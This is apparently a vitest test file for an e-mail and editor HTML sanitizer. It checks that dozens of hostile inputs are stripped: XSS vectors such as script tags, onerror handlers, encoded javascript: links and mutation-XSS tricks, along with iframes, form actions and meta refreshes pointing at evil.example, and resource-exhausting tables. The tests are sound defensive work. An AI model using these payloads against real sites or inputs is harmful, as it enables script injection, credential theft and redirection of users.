import { describe, expect, test } from "vitest";
import { cleanEditorHtml, cleanMailHtml, htmlToText, markdownToHtml, textToHtml } from "@/lib/html";
import { HOSTILE_BODIES } from "../hostile-letters";

const HOSTILE: [string, string][] = [
  ["script", `<script>alert(1)</script>`],
  ["script in upper case", `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`],
  ["broken script", `<scr<script>ipt>alert(1)</scr</script>ipt>`],
  ["event handler", `<img src="x" onerror="alert(1)">`],
  ["event handler without quotes", `<img src=x onerror=alert(1)//`],
  ["event handler behind a slash", `<img/src="x"/onerror=alert(1)>`],
  ["body onload", `<body onload=alert(1)>x</body>`],
  ["javascript link", `<a href="javascript:alert(1)">x</a>`],
  ["javascript link with a tab", `<a href="java\tscript:alert(1)">x</a>`],
  ["javascript link in entities", `<a href="&#106;&#97;vascript&colon;alert(1)">x</a>`],
  ["javascript link behind control letters", `<a href="\u0001\u0002javascript:alert(1)">x</a>`],
  ["data link", `<a href="data:text/html,<script>alert(1)</script>">x</a>`],
  ["vbscript link", `<a href="vbscript:msgbox(1)">x</a>`],
  ["style expression", `<p style="width: expression(alert(1))">x</p>`],
  ["style url", `<p style="background-image:url(javascript:alert(1))">x</p>`],
  ["style that covers the page", `<div style="position:fixed;top:0;left:0;z-index:9999">x</div>`],
  ["style behavior", `<p style="behavior:url(x.htc);-moz-binding:url(x)">x</p>`],
  ["style element", `<style>body{display:none}</style>`],
  ["svg script", `<svg><script>alert(1)</script></svg>`],
  ["svg onload", `<svg onload=alert(1)>`],
  ["svg animate", `<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>`],
  ["svg image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["math", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
  ["mXSS: math, mglyph, style", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`],
  ["mXSS: form in form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`],
  ["mXSS: noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  ["mXSS: svg, style in attribute", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  ["mXSS: textarea", `<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`],
  ["mXSS: xmp", `<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`],
  ["mXSS: listing and plaintext", `<plaintext><img src=x onerror=alert(1)>`],
  ["mXSS: comment", `<!--><img src=x onerror=alert(1)>-->`],
  ["mXSS: CDATA", `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`],
  ["template", `<template><script>alert(1)</script><img src=x onerror=alert(1)></template>`],
  ["iframe", `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["object and embed", `<object data="x.swf"></object><embed src="x.swf">`],
  [
    "nested forms",
    `<form action="https://evil.example"><form><input name="password"><button formaction="javascript:alert(1)">x</button></form></form>`,
  ],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`],
  ["base", `<base href="https://evil.example/">`],
  ["link", `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ["srcset", `<img srcset="https://evil.example/x.png 2x" src="x">`],
  [
    "table background",
    `<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>`,
  ],
  ["video poster", `<video poster="https://evil.example/x.png" onerror="alert(1)"><source src=x></video>`],
  ["id and name", `<a id="location" name="cookie">x</a>`],
  ["null in a tag", `<scr\0ipt>alert(1)</scr\0ipt>`],
  ["unclosed attribute", `<a href="https://ok.example" title="x><img src=x onerror=alert(1)>`],
];
/** What may stand in a browser after cleaning; everything else is a tag or attribute we did not mean. */
const ALLOWED_TAG =
  /^<\/?(?:p|br|div|span|b|strong|i|em|u|s|del|ins|sub|sup|small|mark|code|pre|kbd|blockquote|ul|ol|li|dl|dt|dd|hr|h[1-6]|a|table|thead|tbody|tfoot|tr|td|th|caption|colgroup|col|img|center)(?=[\s/>])/;

describe.each([
  ["cleanMailHtml", (html: string) => cleanMailHtml(html, { cid: () => null })],
  ["cleanEditorHtml", cleanEditorHtml],
  ["markdownToHtml", markdownToHtml],
])("%s lets nothing through", (_name, clean) => {
  test.each(HOSTILE)("%s", (_what, html) => {
    const cleaned = clean(`before ${html} after`);
    const tags = cleaned.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).toMatch(ALLOWED_TAG);
      expect(tag.replace(/="[^"]*"/g, "=")).not.toMatch(
        /\s(?:on\w+|srcset|background|id|name|class|formaction|action|poster|xlink:href)\s*=/i,
      );
      expect(tag).not.toMatch(/(?:href|[^-]src)="\s*(?!https?:|mailto:|tel:|data:image\/(?:png|jpeg|gif|webp);)[^"]/i);
      expect(tag).not.toMatch(/expression|url\(|position|behavior|binding/i);
    }
    expect(cleaned).toContain("before");
  });
  test.each(HOSTILE)("%s, cleaned twice, is the same", (_what, html) => {
    if (clean !== markdownToHtml) expect(clean(clean(html))).toBe(clean(html));
  });
});

describe("mail", () => {
  test("links open elsewhere and tell nothing of us", () =>
    expect(cleanMailHtml(`<a href="https://ok.example" target="_top" rel="opener">x</a>`)).toBe(
      `<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">x</a>`,
    ));

  test("attached images are shown from our own address, remote ones are only named", () => {
    const html = cleanMailHtml(`<img src="cid:a%40b" alt="A"><img src="cid:gone"><img src="https://spy.example/p.gif?u=1" width="10">`, {
      cid: (id) => (id === "a@b" ? "/files/1" : null),
    });
    expect(html).toContain(`src="/files/1"`);
    expect(html).toContain(`data-remote-src="https://spy.example/p.gif?u=1"`);
    expect(html.match(/ src="/g)).toHaveLength(1);
  });

  test("harmless looks are kept", () => {
    const html = `<p style="color:#ff0000;font-weight:bold;text-align:center;border:1px solid #ccc;width:600px">x</p><table><tr><td colspan="2">y</td></tr></table>`;
    expect(cleanMailHtml(html)).toContain("border:1px solid #ccc");
    expect(cleanMailHtml(html)).toContain(`colspan="2"`);
    expect(cleanMailHtml(`<font color="red">z</font>`)).toBe(`<span style="color:red">z</span>`);
  });

  test("a width beyond every screen is not kept", () => expect(cleanMailHtml(`<div style="width:9000px">x</div>`)).toBe("<div>x</div>"));
  test("the text of a head, a style or a title is no text of the letter", () =>
    expect(cleanMailHtml(`<html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>`)).toBe("<p>x</p>"));
});

describe("html made to keep us busy", () => {
  // Each of these once took minutes or all memory, or might; a test that does not end fails.
  test.each(HOSTILE_BODIES.filter(([, type]) => type === "text/html"))("%s: is cleaned and read", (_name, _type, html) => {
    expect(cleanMailHtml(html)).toBeTypeOf("string");
    expect(cleanEditorHtml(html)).toBeTypeOf("string");
    expect(htmlToText(html)).toBeTypeOf("string");
  });
  test("a row has no more columns than a browser can lay out, and loses no word", () => {
    const clean = cleanMailHtml(
      `<table><tr>${"<td colspan=1000 rowspan=99999999>a</td>".repeat(500)}</tr><tr><td colspan=2>b</td></tr></table>`,
    );
    expect(clean.match(/<td/g)).toHaveLength(2);
    expect(clean).toContain(`<td colspan="200" rowspan="100">a</td><span>a</span>`);
    expect(clean).toContain(`<td colspan="2">b</td>`);
    expect(clean.match(/>a</g)).toHaveLength(500);
    expect(cleanMailHtml(`<table><tr>${"<td>a</td>".repeat(5000)}</tr></table>`).match(/<td/g)).toHaveLength(200);
  });
  test("of tags, styles and letters without end the beginning is kept", () => {
    expect(cleanMailHtml(`<p>first</p>${"<i>x</i>".repeat(60_000)}<p>last</p>`)).toMatch(/^<p>first<\/p>(?:<i>x<\/i>)+…$/);
    expect(cleanMailHtml(`<p style="color:red">a</p>${`<p style="${"color:red;".repeat(10_000)}">b</p>`.repeat(6)}`)).toMatch(
      /^<p style="color:red">a<\/p><p style=".*<p>b<\/p>$/,
    );
    expect(textToHtml("> \n".repeat(30_000)).match(/<br \/>/g)).toHaveLength(19_999);
    expect(textToHtml("x".repeat(1_100_000))).toMatch(/x…<\/p>$/);
  });
  test("its text is still there", () => expect(htmlToText(`${"<b>".repeat(5000)}found`)).toContain("found"));
  test("a long table of unclosed cells is no such thing", () =>
    expect(cleanMailHtml(`<table>${"<tr><td>x".repeat(2000)}</table>`)).toContain("<td>"));
});

describe("text", () => {
  test.each([
    ["a < b & c", "<p>a &lt; b &amp; c</p>"],
    ["one\ntwo\n\nthree", "<p>one<br />two</p><p>three</p>"],
    [
      "see https://a.example/x?y=1&z=2.",
      `<p>see <a href="https://a.example/x?y=1&amp;z=2" target="_blank" rel="noopener noreferrer nofollow">https://a.example/x?y=1&amp;z=2</a>.</p>`,
    ],
    [
      "omar@acme.example",
      `<p><a href="mailto:omar@acme.example" target="_blank" rel="noopener noreferrer nofollow">omar@acme.example</a></p>`,
    ],
    [`<script>alert("1")</script>`, "<p>&lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt;</p>"],
  ])("%j becomes %j", (text, html) => expect(textToHtml(text)).toBe(html));

  test("html becomes text with its links and its quotes", () => {
    expect(
      htmlToText(
        `<p>See <a href="https://a.example/x">here</a> or <a href="mailto:o@a.example">o@a.example</a></p><blockquote>old</blockquote>`,
      ),
    ).toBe("See here [https://a.example/x] or o@a.example\n\n> old");
  });

  test("a row of a table becomes a line, its cells beside each other", () => {
    const cells = "<tr><th>Item</th><th>Price</th></tr><tr><td>Cable</td><td> 4.20 </td></tr><tr><td></td><td>Sum</td></tr>";
    expect(htmlToText(`<p>Dear</p><table>${cells}</table><p>Yours</p>`)).toBe("Dear\n\nItem   Price\nCable   4.20\nSum\n\nYours");
    expect(htmlToText(`<blockquote><table>${cells}</table></blockquote>`)).toBe("> Item   Price\n> Cable   4.20\n> Sum");
    expect(htmlToText("<table><tr><td><p>one</p><p>two</p></td><td>three</td></tr></table>")).toBe("one\n\ntwo\n\nthree");
  });
  test("spans of cells ask for no work", () => {
    expect(htmlToText(`<table><tr>${"<td colspan=1000 rowspan=99999999>a</td>".repeat(5000)}</tr></table>`)).toBe(
      Array(5000).fill("a").join("   "),
    );
  });

  test("markdown becomes paragraphs, lists, tables and code, and raw HTML in it is cleaned", () => {
    const html = markdownToHtml("**b** and `c`\n\n- one\n\n| a |\n|---|\n| 1 |\n\n<img src=x onerror=alert(1)>");
    expect(html).toContain("<strong>b</strong>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<td>1</td>");
    expect(html).not.toContain("<img");
  });
});
